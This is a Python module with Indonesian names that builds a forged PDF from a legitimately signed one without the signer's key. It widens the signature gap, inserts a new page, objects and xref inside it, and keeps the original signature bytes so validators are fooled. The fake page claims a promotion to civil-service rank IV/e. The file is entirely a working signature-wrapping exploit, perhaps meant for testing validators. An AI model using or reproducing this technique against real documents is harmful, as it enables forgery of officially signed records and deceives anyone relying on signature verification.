"""Surat palsu yang dibuat dari surat sah tanpa kunci penanda tangannya."""

from io import BytesIO

from asn1crypto.cms import ContentInfo
from pyhanko.pdf_utils.reader import PdfFileReader


def disisipi(pdf: bytes) -> bytes:
    """Surat palsu tanpa kunci penanda tangan: celah tanda tangannya diperlebar dan diisi halaman serta xref baru.

    Ekor yang ditandatangani menunjuk xref pada letak semula, yang kini berada di dalam celah. Tanda tangannya disimpan
    sebagai teks harfiah, supaya panjang celah tetap seperti disebut ByteRange-nya.
    """
    tanda_tangan = PdfFileReader(BytesIO(pdf)).embedded_regular_signatures[0]
    _, awal, lanjut, ekor = map(int, tanda_tangan.byte_range)
    cms = ContentInfo.load(tanda_tangan.pkcs7_content).dump()
    letak_xref = int(pdf.rsplit(b"startxref", 1)[1].split()[0]) - awal
    lebar = 2 * (letak_xref + 8 * len(cms) + 20_000)
    isi = cms + bytes((lebar - 2) // 2 - len(cms))
    lolos = {0x5C: b"\\\\", 0x28: b"\\(", 0x29: b"\\)", 0x0D: b"\\r", 0x0A: b"\\n"}
    harfiah = b"(" + b"".join(lolos.get(bita, bytes([bita])) for bita in isi) + b")"
    palsu = b"% Naik ke IV/e."
    objek = (
        b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [5 0 R] /SigFlags 3 >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R /Resources << >> /Annots [5 0 R] >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(palsu), palsu),
        b"<< /Type /Annot /Subtype /Widget /Rect [0 0 0 0] /F 132 /FT /Sig /T (S) /V 6 0 R /P 3 0 R >>",
        b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /ByteRange [0 %d %d %d] /Contents %s >>"
        % (awal, awal + lebar, ekor, harfiah),
    )
    celah, tulis, letak = bytearray(b" " * lebar), letak_xref + 2_000, []
    for nomor, satu in enumerate(objek, 1):
        naskah = b"%d 0 obj\n%s\nendobj\n" % (nomor, satu)
        letak.append(awal + tulis)
        celah[tulis : tulis + len(naskah)] = naskah
        tulis += len(naskah)
    xref = b"xref\n0 7\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % satu for satu in letak)
    xref += b"trailer\n<< /Size 7 /Root 1 0 R >>\n"
    celah[letak_xref : letak_xref + len(xref)] = xref
    assert len(celah) == lebar
    return pdf[:awal] + bytes(celah) + pdf[lanjut:]
